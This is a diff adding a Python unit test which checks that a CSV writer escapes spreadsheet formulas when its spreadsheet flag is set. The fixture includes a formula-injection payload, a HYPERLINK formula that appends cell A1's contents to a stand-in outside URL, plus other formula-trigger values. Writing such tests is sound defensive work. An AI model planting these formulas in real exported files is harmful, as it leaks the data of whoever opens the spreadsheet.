@@ -112,3 +112,21 @@ def test_cell_text() -> None:
     assert cell_text({"b", "a"}) == "a;b"
     assert cell_text({"k": 1}) == '{"k": 1}'
     assert cell_text(1.5) == "1.5"
+
+
+def test_csv_for_spreadsheets_makes_formulas_literal(tmp_path: Path) -> None:
+    records = [
+        {"name": '=HYPERLINK("http://x.example/?"&A1,"hi")', "dept": "+1 Sales", "n": -3},
+        {"name": "@SUM(1)", "dept": "-", "n": 4},
+        {"name": "Ann = Bob", "dept": "\tTab", "n": 0},
+    ]
+    path = tmp_path / "u.csv"
+    write_csv(path, records, for_spreadsheets=True)
+    rows = list(csv.reader(path.open(newline="")))
+    assert rows[1] == ['\'=HYPERLINK("http://x.example/?"&A1,"hi")', "'+1 Sales", "-3"]
+    assert rows[2] == ["'@SUM(1)", "'-", "4"]
+    assert rows[3] == ["Ann = Bob", "'\tTab", "0"]
+    # Without the flag (the CLI's machine-readable output) values stay exact.
+    raw = io.StringIO()
+    write_csv(raw, records[:1])
+    assert raw.getvalue().splitlines()[1].startswith('"=HYPERLINK(')
